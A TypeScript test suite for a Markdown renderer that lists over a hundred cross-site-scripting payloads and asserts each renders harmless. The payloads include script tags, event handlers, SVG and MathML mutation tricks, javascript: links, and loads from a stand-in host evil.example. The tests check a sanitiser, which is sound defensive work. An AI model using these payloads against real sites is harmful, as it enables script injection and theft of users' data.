import { describe, expect, it } from 'vitest';
import { elementsOf, expectHarmless } from './safety.ts';
import { render } from './rendering.ts';

/** After the classes of the OWASP filter-evasion and cure53 HTML5 lists, in the places where Markdown lets text become HTML. */
const VECTORS = [
  // Scripts, in every spelling.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<script>alert(1)',
  'text <script>alert(1)</script> text',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  // Handlers.
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`x`onerror=alert(1)>',
  '<img src=x onerror\u000C=alert(1)>',
  '<img src=x onerror=&#97;&#108;ert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<b onmouseover=alert(1)>x</b>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div onpointerover="alert(1)" tabindex=1 autofocus onfocus=alert(1)>x</div>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<keygen autofocus onfocus=alert(1)>',
  // Foreign content and mutation.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><td><form action=javascript:alert(1)><button>x',
  '<select><noembed></select><script>alert(1)</script></noembed>',
  // Frames, objects, styles, forms.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<applet code=x></applet>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.example"><input type=password><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<img srcset="https://evil.example/1x.png 1x" alt=x>',
  '<picture><source srcset="https://evil.example/x"><img alt=x></picture>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<td background="javascript:alert(1)">x</td>',
  '<a href="https://example.org" ping="https://evil.example" target=_blank>x</a>',
  // Addresses in raw HTML.
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="https://user:secret@example.org/">x</a>',
  // Markdown links, autolinks, references.
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](  javascript:alert(1)  )',
  '[x](<javascript:alert(1)>)',
  '[x](java&#x0A;script:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:alert(1))',
  '[x](file:///etc/passwd)',
  '[x](ftp://example.org/x)',
  '[x](//evil.example)',
  '[x](/&#92;evil.example)',
  '[x](&#1;javascript:alert(1))',
  '[x](https://example.org "a\\" onclick=\\"alert(1)")',
  "[x](https://example.org' onclick='alert(1)')",
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x]\n\n[x]: <javascript:alert(1)> "t"',
  '[x][]\n\n[x]: java&#115;cript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<vbscript:alert(1)>',
  'https://example.org/"onmouseover="alert(1)',
  'https://example.org/<script>alert(1)</script>',
  // Images.
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x" onerror="alert(1)](media/x.jpg)',
  '![x](media/x.jpg "a\\" onerror=\\"alert(1)")',
  '![x](media/x.svg)',
  '![x](media/../../../etc/passwd.jpg)',
  '![x][i]\n\n[i]: javascript:alert(1)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  // Tables, footnotes, code, headings, lists.
  '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|-|-|\n| [x](javascript:alert(1)) | <b onclick=alert(1)>x</b> |',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onclick="alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '# x" onclick="alert(1)',
  '- <iframe src=javascript:alert(1)>',
  '> <object data=javascript:alert(1)>',
  '**<script>alert(1)</script>**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  // Forgeries of what only we write.
  '<dateline-quote data-kind="tweet" data-key="call"></dateline-quote>',
  '<a data-story="2020/01/08-x.md" class="external">x</a>',
  '<img data-media="media/x.jpg" alt="x">',
  '<p id="main" class="scroll" role="alert" aria-label="x" data-x="y">x</p>',
  '<section class="footnotes" data-footnotes><h2 id="footnote-label">x</h2></section>',
  '::tweet{key="x\\" onclick=\\"alert(1)"}',
  '::tweet{key="<script>alert(1)</script>"}',
] as const;

describe('hostile text', () => {
  it('has at least a hundred vectors, none of them twice', () => {
    expect(new Set(VECTORS).size).toBe(VECTORS.length);
    expect(VECTORS.length).toBeGreaterThan(100);
  });

  it.each(VECTORS)('comes out harmless: %s', (vector) => {
    expectHarmless(render(vector).html);
  });

  it.each(VECTORS)('comes out harmless inside a list and between tags: %s', (vector) => {
    expectHarmless(render(`- before\n\n  <div>\n\n  ${vector.replaceAll('\n', '\n  ')}\n\n  </div>\n\nafter`).html);
  });

  it('comes out harmless all at once', () => {
    expectHarmless(render(VECTORS.join('\n\n')).html);
  });

  it('cannot forge a quote, a story link, a picture or an id', () => {
    const { html, quotes, storyLinks, images } = render(
      VECTORS.filter((vector) => vector.includes('data-')).join('\n\n'),
    );
    const forged = elementsOf(html).filter(
      ({ tagName, properties }) =>
        tagName === 'dateline-quote' ||
        'dataStory' in properties ||
        'dataMedia' in properties ||
        properties['id'] === 'main',
    );
    expect(forged).toEqual([]);
    expect([quotes, storyLinks, images]).toEqual([[], [], []]);
  });
});
